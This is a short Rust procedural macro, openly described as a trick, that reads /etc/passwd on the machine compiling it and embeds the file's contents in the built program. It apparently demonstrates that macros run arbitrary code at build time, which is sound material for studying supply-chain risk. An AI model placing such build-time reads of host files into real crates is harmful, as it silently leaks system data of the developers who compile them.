//! A macro that would put a file of whoever compiles it into the program.

use proc_macro::TokenStream;
use std::fs;

#[proc_macro]
pub fn trick(_: TokenStream) -> TokenStream {
    let text = fs::read_to_string("/etc/passwd").unwrap_or_else(|error| panic!("cannot read the host's file: {error}"));
    format!("const HOST: &str = {text:?};").parse().unwrap()
}
